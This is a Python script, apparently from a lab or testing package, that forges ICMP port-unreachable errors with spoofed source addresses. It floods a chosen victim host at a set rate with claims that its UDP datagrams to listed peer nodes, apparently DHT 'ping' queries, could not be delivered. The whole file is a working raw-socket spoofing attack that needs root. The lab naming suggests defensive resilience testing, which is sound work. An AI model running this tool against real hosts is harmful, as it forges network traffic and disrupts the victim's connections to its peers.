"""Sends forged ICMP port-unreachable errors: ``python -m gauntlet.lab.forger VICTIM RATE SECONDS NODE...``.

VICTIM and each NODE are "host:port". Every error claims that a datagram from VICTIM to a NODE could not be delivered;
in turn it comes from this host, and with the address of the NODE as its source. RATE of them are sent a second; the
number sent is printed at the end. Needs a raw socket, and so root.
"""

from __future__ import annotations

import itertools
import random
import socket
import struct
import sys
import time

DESTINATION_UNREACHABLE = 3
PORT_UNREACHABLE = 3
HOP_LIMIT = 64
BATCH_SECONDS = 0.005
# The start of a query with a transaction id that is drawn anew for each datagram.
PAYLOAD = b"d1:ad2:id20:aaaaaaaaaaaaaaaaaaaae1:q4:ping1:t2:%b1:y1:qe"


def checksum(octets: bytes) -> int:
    """Returns the Internet checksum (RFC 1071)."""
    padded = octets + b"\0" * (len(octets) % 2)
    total: int = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def ip_header(source: str, target: str, protocol: int, length: int) -> bytes:
    """Returns an IPv4 header for so many bytes of content."""
    fields = (0x45, 0, 20 + length, 0, 0, HOP_LIMIT, protocol)
    addresses = socket.inet_aton(source) + socket.inet_aton(target)
    header = struct.pack("!BBHHHBBH", *fields, 0) + addresses
    return struct.pack("!BBHHHBBH", *fields, checksum(header)) + addresses


def unreachable(source: str, victim: tuple[str, int], node: tuple[str, int], payload: bytes) -> bytes:
    """Returns a whole packet: an error from ``source`` about a datagram from ``victim`` to ``node``."""
    datagram = struct.pack("!HHHH", victim[1], node[1], 8 + len(payload), 0) + payload
    quoted = ip_header(victim[0], node[0], socket.IPPROTO_UDP, len(datagram)) + datagram
    head = struct.pack("!BBHI", DESTINATION_UNREACHABLE, PORT_UNREACHABLE, 0, 0)
    sum_of_all = checksum(head + quoted)
    error = struct.pack("!BBHI", DESTINATION_UNREACHABLE, PORT_UNREACHABLE, sum_of_all, 0) + quoted
    return ip_header(source, victim[0], socket.IPPROTO_ICMP, len(error)) + error


def main(victim_node: str, rate: str, seconds: str, *nodes: str) -> None:
    """Sends, and prints how many."""
    (victim, *others) = [
        (host, int(port)) for host, _, port in (node.rpartition(":") for node in (victim_node, *nodes))
    ]
    dice = random.Random(1)
    with socket.socket(type=socket.SOCK_DGRAM) as way:
        way.connect(victim)
        own = way.getsockname()[0]
    # Made beforehand: drawing and summing up would take longer than sending.
    packets = itertools.cycle(
        [
            unreachable(source, victim, node, PAYLOAD % dice.randbytes(2))
            for _ in range(200)
            for node in others
            for source in (own, node[0])
        ]
    )
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        began = time.monotonic()
        while (passed := time.monotonic() - began) < float(seconds):
            while sent < passed * float(rate):
                raw.sendto(next(packets), (victim[0], 0))
                sent += 1
            time.sleep(BATCH_SECONDS)
    sys.stdout.write(f"{sent}\n")


if __name__ == "__main__":
    main(*sys.argv[1:])
